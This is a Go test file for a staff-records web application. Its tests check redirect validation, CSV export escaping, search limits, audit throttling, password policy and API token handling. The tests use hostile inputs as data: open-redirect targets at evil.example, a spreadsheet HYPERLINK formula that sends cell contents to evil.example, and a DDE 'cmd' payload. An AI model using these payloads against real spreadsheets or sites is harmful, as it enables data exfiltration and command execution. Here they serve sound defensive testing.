package web_test

import (
	"encoding/csv"
	"encoding/json"
	"fmt"
	"io"
	"net/http"
	"net/url"
	"regexp"
	"strconv"
	"strings"
	"testing"
	"time"

	"canbo/audit"

	"canbo"
	"canbo/sqlstore"
	"canbo/sqlstore/sqltest"
)

// TestRedirectTargetsStayLocal: login's next= and /lang's back= never send the browser to
// another site, however the target is spelt (a tab the browser strips, encoded slashes, …).
func TestRedirectTargetsStayLocal(t *testing.T) {
	f := newFixture(t, sqltest.MustOpen(t, sqlstore.SQLite))
	f.user("bn", canbo.RoleOfficer, []int64{f.w1})
	for _, next := range []string{"/\t/evil.example", "/%09/evil.example", "/\n/evil.example", "/%5C/evil.example", "/%2F/evil.example", "https://evil.example"} {
		res := post(t, browserClient(t), f.srv.URL+"/login", "", url.Values{"username": {"bn"}, "password": {"mật khẩu dài"}, "next": {next}})
		if loc := res.Header.Get("Location"); res.StatusCode != 303 || loc != "/" {
			t.Errorf("login next=%q: %d → %q, want /", next, res.StatusCode, loc)
		}
		res = post(t, browserClient(t), f.srv.URL+"/lang", "", url.Values{"lang": {"en"}, "back": {next}})
		if loc := res.Header.Get("Location"); loc != "/" {
			t.Errorf("/lang back=%q → %q, want /", next, loc)
		}
		_, body, _ := get(t, browserClient(t), f.srv.URL+"/login?next="+url.QueryEscape(next))
		if !strings.Contains(body, `name="next" value="/"`) {
			t.Errorf("login page keeps next=%q", next)
		}
	}
	res := post(t, browserClient(t), f.srv.URL+"/login", "", url.Values{"username": {"bn"}, "password": {"mật khẩu dài"}, "next": {"/people?q=a%20b"}})
	if loc := res.Header.Get("Location"); loc != "/people?q=a%20b" {
		t.Errorf("a local next became %q", loc)
	}
}

// TestCSVExportsAreNotFormulas: a hostile login name in the audit CSV and a hostile person's
// name in the cleaning CSV come out as text (a leading single quote), never as a formula.
func TestCSVExportsAreNotFormulas(t *testing.T) {
	sqltest.Each(t, func(t *testing.T, db *sqlstore.DB) {
		f := newFixture(t, db)
		hostile := []string{`=HYPERLINK("http://evil.example/?"&A1,"x")`, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "\t=1+1", "\r=1+1", " =1+1", "＝1+1"}
		for _, h := range hostile {
			post(t, browserClient(t), f.srv.URL+"/login", "", url.Values{"username": {h}, "password": {"sai"}})
		}
		req, _ := http.NewRequest("GET", f.srv.URL+"/admin/audit.csv?action=login.failed", nil)
		req.Header.Set("Authorization", "Bearer "+f.adminTok)
		rows := csvRows(t, req)
		names := map[string]bool{}
		for _, row := range rows[1:] {
			names[row[2]] = true
		}
		for _, h := range hostile {
			want := "'" + strings.ToLower(strings.TrimSpace(h))
			if !names[want] {
				t.Errorf("audit CSV: no cell %q among %v", want, names)
			}
		}
		// Two people alike enough to be a duplicate, one named like a formula.
		for _, given := range []string{"Hùng", "Hùngg"} {
			p := &canbo.Person{FamilyName: "=1+2", MiddleName: "Văn", GivenName: given, Sex: canbo.Male, BirthDate: "1965-09-02"}
			if err := db.CreatePerson(sys, p, &canbo.Post{UnitID: f.w1, Title: "@Chuyên viên", Primary: true, From: "2020-01-01"}, nil); err != nil {
				t.Fatal(err)
			}
		}
		req, _ = http.NewRequest("GET", f.srv.URL+"/cleaning.csv", nil)
		req.Header.Set("Authorization", "Bearer "+f.adminTok)
		rows = csvRows(t, req)
		if len(rows) < 2 {
			t.Fatalf("cleaning CSV: %q", rows)
		}
		for _, row := range rows[1:] {
			for _, cell := range row {
				if c := strings.TrimLeft(cell, " "); c != "" && strings.ContainsRune("=+-@\t\r", rune(c[0])) {
					t.Errorf("cleaning CSV cell %q is a formula", cell)
				}
			}
			if row[5] != "'=1+2 Văn Hùng" && row[5] != "'=1+2 Văn Hùngg" {
				t.Errorf("cleaning CSV name cell %q", row[5])
			}
		}
	})
}

func csvRows(t *testing.T, req *http.Request) [][]string {
	t.Helper()
	res, err := http.DefaultClient.Do(req)
	if err != nil {
		t.Fatal(err)
	}
	defer res.Body.Close()
	if res.StatusCode != 200 {
		t.Fatalf("%s: %d", req.URL, res.StatusCode)
	}
	rows, err := csv.NewReader(res.Body).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	return rows
}

// TestSearchIsBounded: a search of many words or much text is refused at once with a 400
// naming the field (500 words used to work a second, then answer 500).
func TestSearchIsBounded(t *testing.T) {
	f := newFixture(t, sqltest.MustOpen(t, sqlstore.SQLite))
	many := strings.Repeat("nguyen ", 500)
	nine := "a b c d e f g h i"
	long := strings.Repeat("x", 201)
	for _, path := range []string{"/api/v1/people?q=", "/api/v1/units?hierarchy=territory&q=", "/org/search?h=territory&q="} {
		for _, q := range []string{many, nine, long, "a-b-c-d-e-f-g-h-i"} {
			start := time.Now()
			code, body := f.api(f.adminTok, "GET", path+url.QueryEscape(q), "", nil)
			if code != 400 || (strings.HasPrefix(path, "/api/") && !strings.Contains(body, `"field":"q"`)) || !strings.Contains(body, "tìm kiếm") {
				t.Errorf("%s%.20q…: %d %.200s", path, q, code, body)
			}
			if d := time.Since(start); d > 500*time.Millisecond {
				t.Errorf("%s: refused after %v", path, d)
			}
		}
		if code, body := f.api(f.adminTok, "GET", path+url.QueryEscape("Nguyễn Văn An 1965 Bến Nghé Quận Một"), "", nil); code != 200 {
			t.Errorf("%s with eight words: %d %.200s", path, code, body)
		}
	}
}

// TestAnonymousAuditIsBounded: a client hammering the login form or the API with bad
// credentials gets a bounded number of audit events written; the rest are counted and written
// as one summary per action when the window ends (they used to write one signed row each).
func TestAnonymousAuditIsBounded(t *testing.T) {
	sqltest.Each(t, func(t *testing.T, db *sqlstore.DB) {
		f := newFixture(t, db)
		now := time.Now()
		f.web.Now = func() time.Time { return now }
		// count returns the events written one by one and the attempts the summaries count.
		count := func(action string) (n int, suppressed int) {
			evs, _, err := db.AuditEvents(sys, audit.Filter{Action: action, Limit: 1000})
			if err != nil {
				t.Fatal(err)
			}
			for _, e := range evs {
				if e.Action != action {
					continue
				}
				if e.After == nil {
					n++
					continue
				}
				var s struct{ Suppressed int }
				if err := json.Unmarshal(e.After, &s); err != nil || s.Suppressed == 0 {
					t.Errorf("summary %s: %v", e.After, err)
				}
				suppressed += s.Suppressed
			}
			return n, suppressed
		}
		c := browserClient(t)
		for i := range 120 {
			post(t, c, f.srv.URL+"/login", "", url.Values{"username": {fmt.Sprintf("u%d", i%7)}, "password": {"sai"}})
			f.api("not-a-token", "GET", "/api/v1/units", "", nil)
		}
		failed, _ := count("login.failed")
		throttled, _ := count("login.throttled")
		invalid, _ := count("auth.invalid_token")
		if failed == 0 || failed > 20 || throttled != 1 || invalid == 0 || invalid > 5 {
			t.Errorf("written at once: %d login.failed, %d login.throttled, %d auth.invalid_token", failed, throttled, invalid)
		}
		// When the window has ended, the next event writes the summaries of the last one:
		// every attempt is accounted for, in a row of its own or in a summary's count.
		now = now.Add(16 * time.Minute)
		f.api("not-a-token", "GET", "/api/v1/units", "", nil)
		n1, s1 := count("login.failed")
		n2, s2 := count("login.throttled")
		n3, s3 := count("auth.invalid_token")
		if n1+s1+n2+s2 != 120 {
			t.Errorf("login attempts: failed %d (+%d in summaries), throttled %d (+%d), want 120 in all", n1, s1, n2, s2)
		}
		if n3+s3 != 121 {
			t.Errorf("bad tokens: %d (+%d in summaries), want 121", n3, s3)
		}
	})
}

// TestPasswordPolicyOnTheWeb: the account page and the administrator's user form apply the one
// policy: twelve spaces, a common password or a short administrator password are refused with
// the message on the form, and nothing changes.
func TestPasswordPolicyOnTheWeb(t *testing.T) {
	f := newFixture(t, sqltest.MustOpen(t, sqlstore.SQLite))
	f.user("bn", canbo.RoleOfficer, []int64{f.w1})
	c := browserClient(t)
	post(t, c, f.srv.URL+"/login", "", url.Values{"username": {"bn"}, "password": {"mật khẩu dài"}})
	for _, pw := range []string{strings.Repeat(" ", 12), "password1234", "short"} {
		res := post(t, c, f.srv.URL+"/account/password", "", url.Values{"current": {"mật khẩu dài"}, "new": {pw}, "confirm": {pw}})
		if res.StatusCode != 422 {
			t.Errorf("new password %q: %d, want 422", pw, res.StatusCode)
		}
	}
	if code, _, _ := get(t, c, f.srv.URL+"/org"); code != 200 {
		t.Errorf("a refused change ended the session: %d", code)
	}
	a := browserClient(t)
	post(t, a, f.srv.URL+"/login", "", url.Values{"username": {"admin"}, "password": {"mật khẩu dài"}})
	enrolTOTP(t, a, f.srv.URL)
	for _, form := range []url.Values{
		{"username": {"new.admin"}, "role": {"admin"}, "password": {"mười hai ký"}},
		{"username": {"new.officer"}, "role": {"officer"}, "scope": {"26740"}, "password": {strings.Repeat(" ", 12)}},
	} {
		req, _ := http.NewRequest("POST", f.srv.URL+"/admin/users", strings.NewReader(form.Encode()))
		req.Header.Set("Content-Type", "application/x-www-form-urlencoded")
		res, err := a.Do(req)
		if err != nil {
			t.Fatal(err)
		}
		b, _ := io.ReadAll(res.Body)
		res.Body.Close()
		if res.StatusCode != 422 || !strings.Contains(string(b), "Mật khẩu") {
			t.Errorf("create %s: %d", form.Get("username"), res.StatusCode)
		}
		if _, _, err := f.db.FindUserByUsername(sys, form.Get("username")); err == nil {
			t.Errorf("%s was created", form.Get("username"))
		}
	}
}

// TestTokensOnTheWeb: users list, make (with an expiry) and revoke their API tokens on the
// account page; a token cannot make tokens; an administrator without a second factor cannot
// make one; a password change revokes them; the administrator sees and revokes everyone's.
func TestTokensOnTheWeb(t *testing.T) {
	sqltest.Each(t, func(t *testing.T, db *sqlstore.DB) {
		f := newFixture(t, db)
		oldTok := f.user("bn", canbo.RoleOfficer, []int64{f.w1})
		c := browserClient(t)
		post(t, c, f.srv.URL+"/login", "", url.Values{"username": {"bn"}, "password": {"mật khẩu dài"}})
		create := func(c *http.Client, bearer string, form url.Values) (int, string) {
			req, _ := http.NewRequest("POST", f.srv.URL+"/account/tokens", strings.NewReader(form.Encode()))
			req.Header.Set("Content-Type", "application/x-www-form-urlencoded")
			if bearer != "" {
				req.Header.Set("Authorization", "Bearer "+bearer)
			}
			res, err := c.Do(req)
			if err != nil {
				t.Fatal(err)
			}
			defer res.Body.Close()
			b, _ := io.ReadAll(res.Body)
			return res.StatusCode, string(b)
		}
		code, body := create(c, "", url.Values{"name": {"báo cáo"}, "days": {"30"}})
		m := regexp.MustCompile(`id="new-token">([A-Za-z0-9_-]+)<`).FindStringSubmatch(body)
		if code != 200 || m == nil {
			t.Fatalf("create: %d", code)
		}
		if code, _ := f.api(m[1], "GET", "/api/v1/units?hierarchy=territory", "", nil); code != 200 {
			t.Errorf("new token: %d", code)
		}
		for _, bad := range []url.Values{{"name": {""}, "days": {"30"}}, {"name": {"x"}, "days": {"0"}}, {"name": {"x"}, "days": {"3650"}}} {
			if code, _ := create(c, "", bad); code != 422 {
				t.Errorf("create %v: %d, want 422", bad, code)
			}
		}
		if code, _ := create(http.DefaultClient, m[1], url.Values{"name": {"x"}, "days": {"30"}}); code != 403 {
			t.Errorf("a token making a token: %d, want 403", code)
		}
		toks, _ := db.ListTokens(sys, 0)
		if len(toks) != 3 || toks[0].Name != "báo cáo" || time.Until(toks[0].ExpiresAt) < 29*24*time.Hour {
			t.Fatalf("tokens: %+v", toks)
		}
		_, page, _ := get(t, c, f.srv.URL+"/account/tokens")
		if !strings.Contains(page, "báo cáo") || strings.Contains(page, m[1]) {
			t.Errorf("token list page")
		}
		// Revoke one's own; another user's answers like a missing one.
		if res := post(t, c, f.srv.URL+"/account/tokens/"+strconv.FormatInt(toks[0].ID, 10)+"/revoke", "", nil); res.StatusCode != 303 {
			t.Errorf("revoke: %d", res.StatusCode)
		}
		if code, _ := f.api(m[1], "GET", "/api/v1/units?hierarchy=territory", "", nil); code != 401 {
			t.Errorf("revoked token: %d", code)
		}
		adminTokID := toks[2].ID // the fixture's administrator's
		if res := post(t, c, f.srv.URL+"/account/tokens/"+strconv.FormatInt(adminTokID, 10)+"/revoke", "", nil); res.StatusCode != 404 {
			t.Errorf("revoking the administrator's token: %d, want 404", res.StatusCode)
		}
		// A password change revokes the remaining token.
		post(t, c, f.srv.URL+"/account/password", "", url.Values{"current": {"mật khẩu dài"}, "new": {"ngựa đỏ ăn cỏ xanh"}, "confirm": {"ngựa đỏ ăn cỏ xanh"}})
		if code, _ := f.api(oldTok, "GET", "/api/v1/units?hierarchy=territory", "", nil); code != 401 {
			t.Errorf("a token survived the password change: %d", code)
		}
		// An administrator without a second factor gets no token (the demo's setting).
		f.web.RequireAdminTOTP = false
		a := browserClient(t)
		post(t, a, f.srv.URL+"/login", "", url.Values{"username": {"admin"}, "password": {"mật khẩu dài"}})
		if code, body := create(a, "", url.Values{"name": {"x"}, "days": {"30"}}); code != 403 || !strings.Contains(body, "hai lớp") {
			t.Errorf("admin without TOTP: %d", code)
		}
		if _, page, _ := get(t, a, f.srv.URL+"/admin/users"); !strings.Contains(page, `id="tokens"`) || !strings.Contains(page, "<td>admin</td>") {
			t.Errorf("the administrator's page does not list tokens")
		}
	})
}

// TestTokensAPI: the API lists the caller's own tokens and revokes them; another user's token
// answers 404.
func TestTokensAPI(t *testing.T) {
	f := newFixture(t, sqltest.MustOpen(t, sqlstore.SQLite))
	tok := f.user("bn", canbo.RoleOfficer, []int64{f.w1})
	var list struct {
		Items []struct {
			ID       int64  `json:"id"`
			Username string `json:"username"`
		} `json:"items"`
	}
	if code, body := f.api(tok, "GET", "/api/v1/tokens", "", &list); code != 200 || len(list.Items) != 1 || list.Items[0].Username != "bn" {
		t.Fatalf("list: %d %s", code, body)
	}
	all, _ := f.db.ListTokens(sys, 0)
	var adminTok int64
	for _, x := range all {
		if x.Username == "admin" {
			adminTok = x.ID
		}
	}
	if code, _ := f.api(tok, "DELETE", "/api/v1/tokens/"+strconv.FormatInt(adminTok, 10), "", nil); code != 404 {
		t.Errorf("revoking another user's token: %d, want 404", code)
	}
	if code, _ := f.api(tok, "DELETE", "/api/v1/tokens/"+strconv.FormatInt(list.Items[0].ID, 10), "", nil); code != 204 {
		t.Errorf("revoking one's own: %d", code)
	}
	if code, _ := f.api(tok, "GET", "/api/v1/tokens", "", nil); code != 401 {
		t.Errorf("the revoked token still works: %d", code)
	}
}

// TestDatabaseDownIsNotSignedOut: when the database cannot be asked (here closed; in
// production a PostgreSQL restart or fail-over), a request with a valid token gets a 500 with
// a message — not a 401, which would make a client drop its token (issue 20 item 8).
func TestDatabaseDownIsNotSignedOut(t *testing.T) {
	f := newFixture(t, sqltest.MustOpen(t, sqlstore.SQLite))
	tok := f.user("bn", canbo.RoleOfficer, []int64{f.w1})
	if code, body := f.api(tok, "GET", "/api/v1/tokens", "", nil); code != 200 {
		t.Fatalf("before: %d %s", code, body)
	}
	f.db.Close()
	code, body := f.api(tok, "GET", "/api/v1/tokens", "", nil)
	if code != 500 || !strings.Contains(body, `"message"`) {
		t.Errorf("database closed: %d %s, want 500 with a message", code, body)
	}
}
